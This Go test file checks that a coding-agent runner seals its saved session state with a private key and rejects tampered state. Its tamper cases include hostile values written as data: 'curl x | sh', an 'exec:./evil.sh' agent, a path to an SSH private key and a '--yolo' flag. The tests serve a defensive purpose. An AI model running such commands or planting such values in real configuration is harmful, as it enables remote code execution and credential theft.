package memory

import (
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/spf13/afero"

	"github.com/ralph-dev/ralph/memory/rootfs"
)

func TestStateKeyMadeOnceAndPrivate(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "ralph")
	fs := afero.NewOsFs()
	k1, err := StateKey(fs, dir)
	if err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(filepath.Join(dir, StateKeyFile))
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("state key mode %v, want 0600", fi.Mode().Perm())
	}
	k2, err := StateKey(fs, dir)
	if err != nil || string(k1) != string(k2) || len(k1) != 32 {
		t.Fatalf("second read: %x, %v; want %x", k2, err, k1)
	}
}

func TestSealRoundTripAndTamper(t *testing.T) {
	fs := afero.NewOsFs()
	root := t.TempDir()
	key, err := StateKey(fs, filepath.Join(t.TempDir(), "ralph"))
	if err != nil {
		t.Fatal(err)
	}
	st := State{Status: StatusRunning, Mode: "run", Run: &RunConfig{Agent: "claude", Verify: "go test ./..."}}
	st.SessionID = "20260101T000000Z-aaaaaaaaaaaa"
	st.Seal = Seal(key, st)
	s, err := CreateSession(fs, root, st.SessionID, st)
	if err != nil {
		t.Fatal(err)
	}
	_ = s.Close()
	back, err := LoadSessionState(fs, root, st.SessionID)
	if err != nil {
		t.Fatal(err)
	}
	if err := CheckSeal(key, back); err != nil {
		t.Fatalf("round trip: %v", err)
	}
	for name, change := range map[string]func(*State){
		"agent":           func(s *State) { s.Run.Agent = "exec:./evil.sh" },
		"verify":          func(s *State) { s.Run.Verify = "curl x | sh" },
		"prompt template": func(s *State) { s.Run.PromptTemplate = "/home/p/.ssh/id_rsa" },
		"agent args":      func(s *State) { s.Run.AgentArgs = []string{"--yolo"} },
		"session id":      func(s *State) { s.SessionID = "20990101T000000Z-bbbbbbbbbbbb" },
		"no seal":         func(s *State) { s.Seal = "" },
	} {
		c := back
		r := *back.Run
		c.Run = &r
		change(&c)
		if err := CheckSeal(key, c); !errors.Is(err, ErrUnsealed) {
			t.Errorf("%s changed: CheckSeal = %v, want ErrUnsealed", name, err)
		}
	}
	other, _ := StateKey(fs, filepath.Join(t.TempDir(), "ralph"))
	if err := CheckSeal(other, back); !errors.Is(err, ErrUnsealed) {
		t.Errorf("another person's key: CheckSeal = %v, want ErrUnsealed", err)
	}
}

// TestStateKeyOutOfProjectReach: the key lives outside the project, so
// the project's door cannot read it.
func TestStateKeyOutOfProjectReach(t *testing.T) {
	root := t.TempDir()
	cfg := filepath.Join(t.TempDir(), "ralph")
	if _, err := StateKey(afero.NewOsFs(), cfg); err != nil {
		t.Fatal(err)
	}
	door, err := rootfs.New(root)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := afero.ReadFile(door, filepath.Join(cfg, StateKeyFile)); err == nil {
		t.Fatal("the project's door read the state key")
	}
}

func TestLatestSealedSkipsUnsealed(t *testing.T) {
	fs := afero.NewOsFs()
	root := t.TempDir()
	key, _ := StateKey(fs, filepath.Join(t.TempDir(), "ralph"))
	mk := func(id string, seal bool) {
		st := State{SessionID: id, Status: StatusInterrupted, Mode: "run", Run: &RunConfig{Agent: "claude"}}
		if seal {
			st.Seal = Seal(key, st)
		}
		s, err := CreateSession(fs, root, id, st)
		if err != nil {
			t.Fatal(err)
		}
		if err := s.AppendMessages(); err != nil {
			t.Fatal(err)
		}
		_ = s.Close()
	}
	mk("20260101T000000Z-aaaaaaaaaaaa", true)
	mk("20261125T235959Z-zzzzzzzzzzzz", false)
	id, skipped, err := LatestSealed(fs, root, key)
	if err != nil || id != "20260101T000000Z-aaaaaaaaaaaa" || len(skipped) != 1 {
		t.Fatalf("LatestSealed = %q, %v, %v", id, skipped, err)
	}
}
